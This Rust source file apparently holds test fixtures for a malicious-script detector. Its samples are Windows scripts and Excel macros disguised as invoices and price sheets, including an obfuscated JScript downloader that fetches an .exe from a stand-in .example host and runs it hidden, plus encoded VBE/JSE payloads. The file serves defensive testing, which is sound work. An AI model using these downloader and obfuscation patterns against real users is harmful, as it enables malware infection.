//! Scripts of Windows by what they would do, and macros that hand such to other programs. Everything is inert: hosts end
//! in `.example`, nothing exists that would be started.

use super::Fixture;
use super::ooxml::Package;
use super::vba::{Module, vba_project};

const DOWNLOADER: &[u8] = b"var parts = ['ject', 'XOb', 'tive', 'Ac'];\r\nvar Make = this[parts.reverse().join('')] || ActiveXObject;\r\n\
function open(text) { return text.split('').reverse().join(''); }\r\nvar web = new ActiveXObject('MSXML2.' + open('PTTHLMX'));\r\n\
web.open('GET', 'http://files.' + unescape('%65xample') + '/a.exe', false);\r\nweb.send();\r\n\
var out = new ActiveXObject('ADODB.Stream');\r\nout.Type = 1; out.Open(); out.Write(web.responseBody);\r\n\
out.SaveToFile('%TEMP%\\\\a.exe', 2);\r\nnew ActiveXObject('WScript.Shell').Run(String.fromCharCode(37) + 'TEMP%\\\\a.exe', 0);\r\n";

const HTA: &[u8] =
    b"<html><head><HTA:APPLICATION ID=\"a\"><script language=\"VBScript\">\r\nDim s\r\ns = StrReverse(\"c/ dmc\")\r\n\
CreateObject(\"WScript.Shell\").Run s & \" echo unopened\", 0\r\n</script></head><body></body></html>";

const WSF: &[u8] = b"<job><script language=\"JScript\"><![CDATA[\r\nvar shell = 'WScript';\r\n]]></script><script language=\"JScript\"><![CDATA[\r\n\
new ActiveXObject(shell + '.Shell').Exec('cmd /c echo unopened');\r\n]]></script></job>";

const CONTROL: &str = "Private Sub Workbook_Open()\n    Dim s\n    Set s = CreateObject(\"MSScriptControl.ScriptControl\")\n    s.Language = \"JScript\"\n\
    s.AddCode \"function f(t) { return t.split('').reverse().join(''); }\"\n\
    s.ExecuteStatement \"new ActiveXObject(f('llehS.tpircSW')).Run('cmd /c echo ' + f('deneponu'))\"\nEnd Sub";

const HONEST: &str = "Sub ReadKeys()\n    Dim s\n    Set s = CreateObject(\"MSScriptControl.ScriptControl\")\n    s.Language = \"JScript\"\n\
    s.AddCode \"function keys(o) { var k = []; for (var i in o) { k.push(i); } return k; }\"\nEnd Sub";

// As the Script Encoder of Windows writes them: two blocks with plain code between; a page; one without its end.
const JSE: &[u8] = b"// two blocks\r\n#@~^OAAAAA==-mD~kt\x7FVV,',U+SP)mDk-nor4NnmD`Bqj^DbwDB~_~vc?4+^sB*i@#@&DxEAAA==^#~@\r\nvar line = 'cmd /c echo ';\r\n#@~^WwAAAA==d4+s^R\"ExvVbU+,_~B9+UnaWx!vRkwVbOcBE#cDn\\n.k+c#c%WbxcvE#~~T*i@#@&J&,@!n\tN@$W0c+XC:aVn@*@#@&vxkAAA==^#~@\r\n";

const ENCODED_HTA: &[u8] = b"<html><head><HTA:APPLICATION ID=\"a\"><script language=\"VBScript.Encode\">#@~^cwAAAA==@#@&frsPk@#@&kP{~?DD]+7+.d\x7F`J1&P9:mrb@#@&;D\x7FlO+68N+^YvE\x7FUm.raYRj4\x7FVsJ* \"EU,/,[PrP\x7F^tKP;xKwnU\x7FNJB~!,B@!Jd^DbwD@*@#@&mR8AAA==^#~@</script></head><body></body></html>";

const VBE: &[u8] =
    b"#@~^SgAAAA==a,'~rmsNJ@#@&;.+mYnr(Ln^D`JqjmMkwD jt\x7FV^JbR];\tPaPL~J,z^~\x7FmtG~!xGw\x7FU\x7FNE@#@&YRUAAA==";

/// A macro that writes an encoded script and starts it.
const WRITES: &str = "Private Sub Workbook_Open()\n    Dim f\n    Set f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(\"C:\\Users\\Public\\a.vbe\")\n\
    f.Write \"#@~^OAAAAA==/M+CD+}4L\x7FmDcJq?^DbwO Ut+^sJ*RI!U~J1:9P&m~n1tGP!UWa+Un9JHBMAAA==^#~@\"\n    f.Close\n    CreateObject(\"WScript.Shell\").Run \"wscript C:\\Users\\Public\\a.vbe\"\nEnd Sub";

pub(crate) fn fixtures() -> Vec<Fixture> {
    let book =
        |source: &str| Package::excel(true).macros(&vba_project(&[Module::document("ThisWorkbook", source)])).build();
    let read = Package::excel(true).macros(&vba_project(&[Module::standard("Module1", HONEST)])).build();
    vec![
        Fixture::new("script-downloader", "invoice.js", DOWNLOADER.to_vec()),
        Fixture::new("script-hta", "invoice.hta", HTA.to_vec()),
        Fixture::new("script-wsf", "invoice.wsf", WSF.to_vec()),
        Fixture::new("script-encoded", "invoice.jse", JSE.to_vec()),
        Fixture::new("script-encoded-hta", "invoice.hta", ENCODED_HTA.to_vec()),
        Fixture::new("script-encoded-damaged", "invoice.vbe", VBE.to_vec()),
        Fixture::new("vba-writes-encoded-script", "prices.xlsm", book(WRITES)),
        Fixture::new("vba-jscript", "prices.xlsm", book(CONTROL)),
        Fixture::new("vba-jscript-honest", "prices.xlsm", read).honest(),
    ]
}
